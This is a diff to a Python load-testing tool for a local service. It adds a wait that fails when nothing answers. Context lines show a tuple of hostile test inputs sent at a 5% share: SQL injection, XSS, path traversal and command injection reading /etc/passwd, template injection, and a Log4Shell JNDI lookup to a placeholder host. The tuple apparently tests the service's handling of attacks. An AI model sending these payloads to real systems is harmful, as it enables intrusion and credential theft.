@@ -23,6 +23,8 @@ _ATTACK_SHARE: Final = 0.05  # chosen: above what a busy site sees
 _SEED: Final = 5
 _WARM_S: Final = 1.0
 _END_S: Final = 10.0  # chosen: for the last answers
+_FIRST_S: Final = 60.0  # chosen: for the first answer, on a machine that does much else
+_LOOK_S: Final = 0.01
 _ATTACKS: Final = (
     "1' or '1'='1", "1 union select user,password from users--", "<script>alert(1)</script>",
     "../../../../etc/passwd", ";cat /etc/passwd", "{{7*7}}", "${jndi:ldap://192.0.2.1/a}",
@@ -98,7 +100,7 @@ class LoadPlan:
         port: Of the service on this machine.
         token: Its bearer token.
         concurrent: Kept connections.
-        seconds: How long, after a second to get warm.
+        seconds: How long, after a second to get warm; longer until something is answered.
         rate_per_s: Over all connections; 0 sends the next on each as soon as one is answered.
     """
 
@@ -206,12 +208,12 @@ async def _drive(plan: LoadPlan, messages: Sequence[bytes]) -> LoadFigures:
         (await loop.create_connection(lambda: _Client(load), "127.0.0.1", plan.port))[1]
         for _ in range(plan.concurrent)
     ]
-    await asyncio.sleep(min(_WARM_S, plan.seconds))
+    await _measured(load, min(_WARM_S, plan.seconds))
     load.latencies_s.clear()
     began = time.perf_counter()
-    await asyncio.sleep(plan.seconds)
+    await _measured(load, plan.seconds)
     took_s = time.perf_counter() - began
-    found = np.array(load.latencies_s or [0.0])
+    found = np.array(load.latencies_s)
     load.is_over = True
     await asyncio.wait([client.is_done for client in clients], timeout=_END_S)
     p50, p99 = np.percentile(found, (50, 99)) * 1e3
@@ -224,6 +226,20 @@ async def _drive(plan: LoadPlan, messages: Sequence[bytes]) -> LoadFigures:
         p50_ms=float(p50),
         p99_ms=float(p99),
     )
+
+
+async def _measured(load: _Load, seconds: float) -> None:
+    """Go on for so long, and until something was answered.
+
+    Raises:
+        SourceError: Nothing was.
+    """
+    await asyncio.sleep(seconds)
+    until = time.perf_counter() + _FIRST_S
+    while not load.latencies_s:
+        if load.n_errors or time.perf_counter() > until:
+            raise SourceError("The service does not answer: there is nothing to measure.")
+        await asyncio.sleep(_LOOK_S)
 
 
 def _loop_factory() -> Callable[[], asyncio.AbstractEventLoop] | None:
